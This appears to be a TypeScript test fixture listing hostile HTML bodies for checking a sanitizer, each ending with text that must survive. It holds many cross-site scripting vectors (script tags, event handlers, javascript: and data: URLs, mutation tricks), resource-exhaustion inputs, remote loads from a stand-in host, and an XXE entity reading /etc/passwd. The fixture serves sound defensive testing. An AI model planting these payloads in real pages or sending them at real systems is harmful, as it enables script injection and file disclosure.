/** Texts of publications that want to do something. Each ends with words that must be read all the same. */
const end = "<p>fim do texto</p>";
const outside = "https://fora.example/";

const bodies: Record<string, string> = {
  script: `<p>a</p><script>window.pwned=1;fetch("${outside}")</script>`,
  "script in capitals, with a space": `<ScRiPt src=${outside}x.js></sCrIpT >`,
  "image with a handler": `<img src=x onerror="window.pwned=1">`,
  "handlers everywhere": `<p onclick=window.pwned=1 onmouseover=window.pwned=1>a</p><body onload=window.pwned=1>`,
  "style attribute": `<p style="position:fixed;inset:0;background:url(${outside}a.png)">a</p>`,
  "style element": `<style>@import "${outside}a.css";*{display:none!important}</style>`,
  "svg with a script": `<svg onload=window.pwned=1><script>window.pwned=1</script><a href="javascript:window.pwned=1"><text>x</text></a></svg>`,
  "svg use": `<svg><use href="${outside}a.svg#x"/><image href="${outside}a.png"/></svg>`,
  "svg animation": `<svg><a><animate attributeName=href values=javascript:window.pwned=1 /><text>x</text></a></svg>`,
  math: `<math><maction actiontype="statusline#${outside}" xlink:href="javascript:window.pwned=1">x</maction></math>`,
  "mutation by math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></table></mtext></math>`,
  "mutation by noscript": `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>`,
  "mutation by form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1></style></form>`,
  base: `<base href="${outside}"><base target=_blank>`,
  "meta refresh": `<meta http-equiv=refresh content="0;url=${outside}"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  "form and its action": `<form action="${outside}"><input name=senha type=password autofocus onfocus=window.pwned=1><button formaction="javascript:window.pwned=1">Entrar</button></form>`,
  "iframe srcdoc": `<iframe srcdoc="<script>parent.pwned=1</script>" src="javascript:parent.pwned=1"></iframe>`,
  "object and embed": `<object data="${outside}a.swf"></object><embed src="${outside}a.swf"><applet code=X></applet>`,
  "remote pictures": `<img src="${outside}a.png"><img srcset="${outside}b.png 1x"><picture><source srcset="${outside}c.png"></picture><video poster="${outside}d.png" autoplay></video><audio src="${outside}e.mp3" autoplay></audio>`,
  "link preload": `<link rel=preload as=script href="${outside}a.js"><link rel=stylesheet href="${outside}a.css"><link rel=dns-prefetch href="//fora.example">`,
  "javascript address": `<a href="javascript:window.pwned=1" autofocus>a</a><a href="java&#10;script:window.pwned=1">b</a>`,
  "data address": `<a href="data:text/html,<script>window.pwned=1</script>">a</a><iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>`,
  "vbscript address": `<a href="vbscript:msgbox(1)">a</a>`,
  "tables in tables": `${"<table><tr><td>".repeat(10_000)}x${"</td></tr></table>".repeat(10_000)}`,
  "lists in lists": `${"<ul><li>".repeat(10_000)}x${"</ul>".repeat(10_000)}`,
  "never closed": "<b><i><u>".repeat(20_000),
  "bidi overrides": `\u202E\u2066oãçiderroc\u202D \u200F&#8238;&#x2067;`,
  "null bytes": `<scr\0ipt>window.pwned=1</scr\0ipt>\0&#0;`,
  "half tags": `<<p>a<p <b <i x="<img src=x onerror=window.pwned=1>">`,
  template: `<template><script>window.pwned=1</script><img src=x onerror=window.pwned=1></template>`,
  "shadow root": `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template></div>`,
  "comment tricks": `<!--><img src=x onerror=window.pwned=1>--><!-- --!><img src=x onerror=window.pwned=1><![CDATA[<img src=x onerror=window.pwned=1>]]>`,
  "conditional comment": `<!--[if IE]><script>window.pwned=1</script><![endif]-->`,
  "overlay of the page": `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999" class="fixed inset-0 z-50" id="main">a</div>`,
  "names of the page": `<p id=main name=main class="sr-only hidden">a</p><form name=document><input name=body></form>`,
  "huge attribute": `<p title="${"a".repeat(300_000)}">a</p>`,
  "many attributes": `<p ${Array.from({ length: 20_000 }, (_, at) => `x${at}=1`).join(" ")}>a</p>`,
  "entity bomb": "&amp;lt;&NotEqualTilde;&#x41;".repeat(2_000),
  "wide entities": `&#xD800;&#1114112;&#x110000;&bogus;&`,
  "stacked marks": `a${"\u0301\u0489".repeat(3_000)}`,
  "one long word": "w".repeat(20_000),
  dialog: `<dialog open>a</dialog><div popover=auto id=p>b</div><button popovertarget=p>c</button>`,
  "moving text": `<marquee onstart=window.pwned=1 behavior=alternate>a</marquee><blink>b</blink>`,
  "old frames": `<frameset onload=window.pwned=1><frame src="${outside}"></frameset>`,
  "wide table": `<table><tr>${"<td colspan=1000 rowspan=65000 width=99999>x</td>".repeat(60)}</tr></table>`,
  "processing instructions": `<?xml version="1.0"?><?php system("id") ?><!DOCTYPE html SYSTEM "${outside}a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
};

/** These swallow what follows in a browser, and show it here. */
const swallowing: Record<string, string> = {
  plaintext: `<plaintext><script>window.pwned=1</script>fim do texto`,
  "open comment": `<p>a</p><!-- fim do texto`,
  "open script": `<p>a</p><script>window.pwned=1;"fim do texto"`,
  "open attribute": `<p>a</p><img alt="fim do texto`,
  "open textarea": `<p>a</p><textarea><img src=x onerror=window.pwned=1>fim do texto`,
};

export const hostileBodies: readonly { name: string; content: string }[] = [
  ...Object.entries(bodies).map(([name, content]) => ({ name, content: `${content}${end}` })),
  ...Object.entries(swallowing).map(([name, content]) => ({ name, content })),
];
